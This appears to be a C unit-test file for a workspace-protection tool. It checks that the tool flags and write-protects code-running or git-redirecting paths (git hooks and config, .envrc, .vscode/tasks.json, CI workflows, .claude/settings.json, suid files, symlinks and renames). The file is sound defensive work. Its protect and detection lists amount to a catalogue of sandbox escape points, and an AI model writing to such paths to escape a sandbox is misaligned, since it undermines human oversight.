	struct handoff_scan_opts opts = { 0 };
	assert_int_equal(handoff_scan(root, &opts, &rep, &err), 0);
	static const char *const flagged[] = { ".vscode", "tools/tasks.json", "vendor/b/config",
					       "vendor/b/hooks/post-checkout", ".git/objects/info/alternates",
					       ".git/commondir", "suid", ".git/worktrees/wt/config",
					       ".git/worktrees/wt2/commondir", "sub/.git" };
	for (size_t i = 0; i < sizeof(flagged) / sizeof(flagged[0]); i++)
		if (!must_find(&rep, flagged[i])->flagged)
			fail_msg("%s is not flagged", flagged[i]);
	assert_non_null(strstr(must_find(&rep, "suid")->reason, "set-user-ID"));
	assert_non_null(strstr(must_find(&rep, "tools/tasks.json")->reason, ".vscode/tasks.json"));
	assert_null(find(&rep, "app/config/settings.ini"));
	assert_null(find(&rep, "app/objects/o.c"));
	const struct handoff_entry *x = find(&rep, "srclink");
	assert_true(!x || !x->flagged);
	assert_false(must_find(&rep, "wt/.git")->flagged);
	assert_false(must_find(&rep, ".git/worktrees/wt/commondir")->flagged);
	handoff_report_free(&rep);
	char cmd[4300];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", root);
	assert_int_equal(system(cmd), 0);
}

static struct protect_set protect_of(bool defaults, bool build, const char *extra)
{
	struct policy pol;
	struct policy_path extra_path = { .path = (char *)extra };
	memset(&pol, 0, sizeof(pol));
	pol.filesystem.protect_defaults = defaults;
	pol.filesystem.protect_build = build;
	if (extra) {
		pol.filesystem.protect.v = &extra_path;
		pol.filesystem.protect.n = 1;
	}
	struct protect_set s;
	assert_int_equal(protect_set_from_policy(&pol, &s), 0);
	return s;
}

static void test_protect_match(void **state)
{
	(void)state;
	struct protect_set s = protect_of(true, false, "tools/bin/**");
	/* The published escapes, at the top and in a nested repository. */
	static const char *const yes[] = {
		".git/hooks/pre-commit", ".git/config", "sub/.git/hooks/pre-commit", "sub/.git/config",
		".gitattributes", ".envrc", "a/b/.envrc", ".vscode/tasks.json", ".github/workflows/x.yml",
		".venv/bin/python", ".claude/settings.json", ".git", "sub/.git", "tools/bin/x",
	};
	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
		if (!protect_match(&s, yes[i], false))
			fail_msg("%s is not protected", yes[i]);
	/* Their neighbours: what git and ordinary work write. */
	static const char *const no[] = {
		".git/objects/ab/cdef", ".git/refs/heads/main", ".git/index", ".git/HEAD", ".git/COMMIT_EDITMSG",
		".git/logs/HEAD", ".git/ORIG_HEAD", ".git/config.lock.x", "src/a.c", "envrc", "Makefile",
		"tools/binx", ".github/CODEOWNERS",
	};
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
		if (protect_match(&s, no[i], false))
			fail_msg("%s is protected by %s", no[i], protect_match(&s, no[i], false));
	/* A directory glob protects its directory, and anything at that name;
	 * a file glob does not protect a directory (the .git directory stays
	 * writable, the .git file does not). */
	assert_string_equal(protect_match(&s, ".git/hooks", true), "**/.git/hooks/**");
	assert_string_equal(protect_match(&s, ".vscode", true), "**/.vscode/**");
	assert_string_equal(protect_match(&s, ".vscode", false), "**/.vscode/**");
	assert_null(protect_match(&s, ".git", true));
	assert_null(protect_match(&s, "sub/.git", true));
	assert_null(protect_match(&s, ".git/hooksx", true));
	assert_null(protect_match(&s, "", true));
	/* Walking: .git must be looked into; a tree no glob can reach need not. */
	assert_true(protect_may_match_beneath(&s, ".git"));
	assert_true(protect_may_match_beneath(&s, ""));
	protect_set_free(&s);

	/* Build entry points only on request; defaults can be dropped. */
	s = protect_of(true, false, NULL);
	assert_null(protect_match(&s, "Makefile", false));
	assert_null(protect_match(&s, "tests/conftest.py", false));
	protect_set_free(&s);
	s = protect_of(true, true, NULL);
	assert_non_null(protect_match(&s, "Makefile", false));
	assert_non_null(protect_match(&s, "tests/conftest.py", false));
	protect_set_free(&s);
	s = protect_of(false, false, "tools/bin/**");
	assert_int_equal(s.n, 1);
	assert_null(protect_match(&s, ".git/hooks/pre-commit", false));
	assert_null(protect_match(&s, ".envrc", false));
	assert_non_null(protect_match(&s, "tools/bin", true));
	assert_true(protect_may_match_beneath(&s, "tools"));
	assert_false(protect_may_match_beneath(&s, "src"));
	assert_false(protect_may_match_beneath(&s, "toolsx"));
	protect_set_free(&s);
	s = protect_of(false, false, NULL);
	assert_int_equal(s.n, 0);
	assert_null(protect_match(&s, ".git/config", false));
	assert_false(protect_may_match_beneath(&s, ""));
	protect_set_free(&s);
}

/* A symlink whose name leads into a glob lets its target stand in for a
 * protected path; a link whose name only a leading "**" + "/" would pass
 * through does not (its target's own names are protected). */
static void test_protect_link_dangerous(void **state)
{
	(void)state;
	struct protect_set s = protect_of(true, false, "deploy/keys/**");
	static const char *const yes[] = {
		".venv", "a/.venv", "venv", ".github", "sub/.github", ".git", "node_modules", ".yarn",
		"lib/site-packages", ".git/modules", ".git/modules/a", ".git/worktrees/w", ".git/info", "deploy",
	};
	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
		if (!protect_link_dangerous(&s, yes[i]))
			fail_msg("a link at %s is let through", yes[i]);
	static const char *const no[] = { "src", "notes", "a/b", "docs/github", "venvx", "lib", "deployx", "x/deploy" };
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
		if (protect_link_dangerous(&s, no[i]))
			fail_msg("a link at %s is refused", no[i]);
	protect_set_free(&s);
}

/* A directory renamed (or linked) to a new name: what lands beneath it is
 * judged at its new place. "mv x sub/.git" with x/config makes
 * sub/.git/config; the same tree at "sub/notes" is harmless. */
static void test_protect_beneath(void **state)
{
	(void)state;
	struct protect_set s = protect_of(true, false, NULL);
	char buf[128];
	assert_string_equal(protect_match_beneath(&s, "sub/.git", "config", false, buf, sizeof(buf)), "**/.git/config");
	assert_string_equal(buf, "sub/.git/config");
	assert_non_null(protect_match_beneath(&s, "sub/.git", "hooks/pre-commit", false, buf, sizeof(buf)));
	assert_non_null(protect_match_beneath(&s, "sub/.git", "hooks", true, buf, sizeof(buf)));
	assert_non_null(protect_match_beneath(&s, "x", ".vscode/tasks.json", false, buf, sizeof(buf)));
	assert_non_null(protect_match_beneath(&s, ".vscode", "", true, buf, sizeof(buf)));
	assert_null(protect_match_beneath(&s, "sub/notes", "config", false, buf, sizeof(buf)));
	assert_null(protect_match_beneath(&s, "sub/notes", "hooks/pre-commit", false, buf, sizeof(buf)));
	assert_null(protect_match_beneath(&s, "sub/.git", "objects/ab/cd", false, buf, sizeof(buf)));
	assert_null(protect_match_beneath(&s, "sub/.git", "", true, buf, sizeof(buf)));
	/* A name too long to judge is refused, never truncated into a
	 * harmless one. */
	char small[8];
	assert_non_null(protect_match_beneath(&s, "sub/notes", "config", false, small, sizeof(small)));
	protect_set_free(&s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_glob_against_reference),
		cmocka_unit_test(test_rules_match_at_any_depth),
		cmocka_unit_test(test_inspect_git_config),
		cmocka_unit_test(test_inspect_other_files),
		cmocka_unit_test(test_path_escapes),
		cmocka_unit_test(test_sha256_vectors),
		cmocka_unit_test(test_scan_and_baseline),
		cmocka_unit_test(test_protect_match),
		cmocka_unit_test(test_protect_beneath),
		cmocka_unit_test(test_protect_link_dangerous),
		cmocka_unit_test(test_rules_indirection),
		cmocka_unit_test(test_git_shape),
		cmocka_unit_test(test_git_repository),
		cmocka_unit_test(test_aliases),
		cmocka_unit_test(test_inspect_pointers),
		cmocka_unit_test(test_scan_indirection),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
